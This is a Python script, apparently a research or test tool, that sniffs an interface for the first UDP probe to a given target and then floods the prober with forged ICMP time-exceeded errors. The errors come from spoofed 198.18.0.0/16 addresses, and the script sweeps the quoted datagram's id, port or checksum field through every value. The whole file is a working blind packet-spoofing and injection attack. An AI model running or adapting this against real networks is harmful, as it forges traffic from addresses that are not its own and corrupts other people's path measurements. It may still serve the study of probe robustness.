#!/usr/bin/env python3
"""Forges errors about probes: quotes.py INTERFACE TARGET FIELD [PORT]

Waits for the first UDP probe to TARGET that passes INTERFACE, and learns from it who asks: that is all that a blind attacker
knows. Then sends time exceeded from 198.18.0.0/16 which quote a datagram to TARGET, with FIELD (id, port, checksum, number)
taking one value after another and the rest guessed anew after each 65,536, until it is killed. With PORT the port is known.
"""
import random
import socket
import struct
import sys

FIELDS = {"id": 20 + 8 + 4, "port": 20 + 8 + 20, "number": 20 + 8 + 22, "checksum": 20 + 8 + 26}


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def first_probe(interface, target):
    """The source address of the first probe, and its port."""
    seen = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    seen.bind((interface, 0x0800))
    print("listening", flush=True)
    while True:
        packet = seen.recv(65535)
        if packet[9] == socket.IPPROTO_UDP and packet[16:20] == target:
            return packet[12:16], struct.unpack_from("!H", packet, (packet[0] & 15) * 4)[0]


def error(prober, target, port):
    """A guess: everything but checksums, which the sweep keeps."""
    word = lambda: random.randrange(1, 1 << 16)
    quote = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 60, word(), 0, 1, socket.IPPROTO_UDP, 0, prober, target
    ) + struct.pack("!HHHH", port or word(), 33434 + random.randrange(90), 40, word())
    source = bytes([198, 18, random.randrange(256), random.randrange(1, 255)])
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 28 + len(quote), word(), 0, 60, socket.IPPROTO_ICMP, 0, source, prober
    )
    icmp = struct.pack("!BBHI", 11, 0, 0, 0) + quote
    return bytearray(head + icmp)


def main():
    interface, target, field = sys.argv[1:4]
    target = socket.inet_aton(target)
    prober, port = first_probe(interface, target)
    known = port if len(sys.argv) > 4 else None
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to, at = (socket.inet_ntoa(prober), 0), FIELDS[field]
    while True:
        packet = error(prober, target, known)
        struct.pack_into("!H", packet, at, 0)
        rest = ~checksum(bytes(packet[20:])) & 0xFFFF
        for value in range(1, 1 << 16):
            total = rest + value
            total = (total & 0xFFFF) + (total >> 16)
            struct.pack_into("!H", packet, at, value)
            struct.pack_into("!H", packet, 22, ~total & 0xFFFF)
            out.sendto(packet, to)


main()
